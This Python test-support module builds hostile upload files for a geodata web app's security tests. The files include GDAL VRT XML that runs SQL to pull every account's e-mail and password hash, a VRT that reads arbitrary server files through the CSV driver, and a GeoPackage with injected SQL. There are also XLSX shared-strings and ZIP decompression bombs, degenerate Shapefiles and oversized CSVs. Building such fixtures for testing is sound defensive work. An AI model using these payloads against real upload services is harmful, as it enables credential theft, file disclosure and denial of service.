"""Builders of hostile upload files: each returns the bytes an attacker would upload.

They reproduce the attacks of issue 8: GDAL's VRT XML under another file name (reading the
app's own database, a file of the server through the ``CSV:`` driver, or a URL through
``/vsicurl/``), a GeoPackage with tables and triggers of its own, a degenerate Shapefile, an
XLSX whose shared strings unpack to hundreds of megabytes, CSV bombs and a ZIP bomb.
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
from pathlib import Path

import numpy as np

from tests.support.data import SHARED

BERLIN_LOR = SHARED / "berlin" / "lor_prognoseraeume_2021_epsg25833.geojson"
KOELN_STADTTEILE = SHARED / "koeln" / "stadtteile.zip"


def vrt(source: str, sql: str | None = None) -> bytes:
    """GDAL's OGR VRT XML reading ``source`` (a path, ``CSV:…``, ``/vsicurl/…``).

    With ``sql`` (GDAL's SQLite dialect, columns ``x`` and ``y`` among its results) every row
    becomes a point feature, so an upload preview lists each row as a "feature that is not a
    polygon", naming its code.
    """
    query, geometry = "", ""
    if sql:
        query = f'<SrcSQL dialect="SQLITE">{sql}</SrcSQL>'
        geometry = '<GeometryField encoding="PointFromColumns" x="x" y="y"/>'
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="areas">'
        f"<SrcDataSource>{source}</SrcDataSource>{query}{geometry}"
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def vrt_accounts(database: Path) -> bytes:
    """VRT that runs SQL on the app's SQLite file: every account's e-mail and password hash."""
    return vrt(
        str(database),
        "SELECT email AS code, password_hash AS name, 0 AS x, 0 AS y FROM user_account",
    )


def vrt_file(path: str) -> bytes:
    """VRT that reads any text file of the server through GDAL's CSV driver, line by line."""
    return vrt(f"CSV:{path}", f"SELECT *, 0 AS x, 0 AS y FROM {Path(path).stem}")


def zipped(members: dict[str, bytes], level: int = 6) -> bytes:
    """A ZIP archive of ``members`` (name -> bytes), deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _shp_header(shape_type: int, length_bytes: int) -> bytes:
    return struct.pack(">i20xi", 9994, length_bytes // 2) + struct.pack(
        "<ii4d4d", 1000, shape_type, 0, 0, 0, 0, 0, 0, 0, 0
    )


def _dbf(rows: int) -> bytes:
    """A dBASE III table with one one-character field ``A`` and ``rows`` blank records."""
    header = struct.pack("<B3BIHH20x", 0x03, 126, 1, 1, rows, 32 + 32 + 1, 2)
    field = b"A".ljust(11, b"\0") + b"C" + b"\0" * 4 + bytes([1, 0]) + b"\0" * 14
    return header + field + b"\r" + b"  " * rows + b"\x1a"


def degenerate_points(count: int) -> dict[str, bytes]:
    """A point Shapefile of ``count`` records, all at (0, 0), all indexed at the first one."""
    record = struct.pack(">ii", 1, 10) + struct.pack("<idd", 1, 0.0, 0.0)
    shp = _shp_header(1, 100 + count * len(record)) + record * count
    shx = _shp_header(1, 100 + 8 * count) + struct.pack(">ii", 50, 10) * count
    return {"points.shp": shp, "points.shx": shx, "points.dbf": _dbf(count)}


def huge_ring(points: int) -> dict[str, bytes]:
    """A polygon Shapefile of one ring through ``points`` points of a grid (packs to ~1/10)."""
    grid = np.arange(points)
    coordinates = np.column_stack([grid % 1000, grid // 1000]).astype("<f8").tobytes()
    content = struct.pack("<i4dii", 5, 0, 0, 0, 0, 1, points) + b"\0\0\0\0" + coordinates
    shp = _shp_header(5, 100 + 8 + len(content)) + struct.pack(">ii", 1, len(content) // 2)
    shx = _shp_header(5, 108) + struct.pack(">ii", 50, len(content) // 2)
    return {"ring.shp": shp + content, "ring.shx": shx, "ring.dbf": _dbf(1)}


SHARED_STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def shared_strings_bomb(unpacked: int = 212 * 1024 * 1024) -> bytes:
    """A real workbook whose ``xl/sharedStrings.xml`` unpacks to ``unpacked`` bytes.

    Written by openpyxl, then given a shared strings part (registered in the content types,
    where readers look for it) that packs to about a thousandth of its size.
    """
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Gebiet", "SGB2"])
    workbook.active.append(["1 a", 12.5])
    plain = io.BytesIO()
    workbook.save(plain)
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(plain) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
    ):
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", SHARED_STRINGS_TYPE + b"</Types>")
            if info.filename != "xl/sharedStrings.xml":
                archive.writestr(info.filename, data)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            part.write(b"<si><t>Gebiet</t></si><si><t>SGB2</t></si><si><t>1 a</t></si>")
            chunk = b"<si><t>A</t></si>" * (1024 * 1024 // 17)
            written = 0
            while written < unpacked:
                part.write(chunk)
                written += len(chunk)
            part.write(b"</sst>")
    return buffer.getvalue()


def zip_bomb(unpacked: int = 300 * 1024 * 1024) -> bytes:
    """A 'Shapefile' archive whose .shp unpacks to ``unpacked`` bytes of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("bomb.shp", "w", force_zip64=True) as part:
            zeros = bytes(1024 * 1024)
            for _ in range(unpacked // len(zeros)):
                part.write(zeros)
        archive.writestr("bomb.shx", _shp_header(5, 100))
        archive.writestr("bomb.dbf", _dbf(0))
    return buffer.getvalue()


def wide_csv(columns: int = 15_000) -> bytes:
    """A CSV of ``columns`` columns and two rows."""
    header = ";".join(f"c{i}" for i in range(columns))
    row = ";".join("1" for _ in range(columns))
    return f"{header}\n{row}\n{row}\n".encode()


def long_cell_csv(chars: int = 200_000) -> bytes:
    """A CSV whose third line holds one cell over the csv module's field limit (131,072)."""
    return f"Gebiet;SGB2\n1 a;12,5\n1 b;{'9' * chars}\n".encode()


def write(folder: Path, name: str, content: bytes) -> Path:
    """Write ``content`` as ``folder / name`` and return the path."""
    path = folder / name
    path.write_bytes(content)
    return path


def geopackage_with(extra_sql: list[str], folder: Path) -> bytes:
    """Berlin's Prognoseräume as a GeoPackage, then ``extra_sql`` run on it."""
    import geopandas as gpd

    path = folder / "extra.gpkg"
    gpd.read_file(BERLIN_LOR).head(3).to_file(path, driver="GPKG")
    connection = sqlite3.connect(path)
    with connection:
        for statement in extra_sql:
            connection.execute(statement)
    connection.close()
    return path.read_bytes()


def feature_collection(properties: list[dict], crs: int = 25832) -> bytes:
    """Small squares with the given properties, in ETRS89/UTM."""
    features = []
    for i, props in enumerate(properties):
        x = 294000 + 1000 * i
        ring = [[x, 5630000], [x + 900, 5630000], [x + 900, 5630900], [x, 5630900], [x, 5630000]]
        features.append(
            {"type": "Feature", "properties": props,
             "geometry": {"type": "Polygon", "coordinates": [ring]}}
        )  # fmt: skip
    collection = {
        "type": "FeatureCollection",
        "crs": {"type": "name", "properties": {"name": f"urn:ogc:def:crs:EPSG::{crs}"}},
        "features": features,
    }
    return json.dumps(collection).encode()
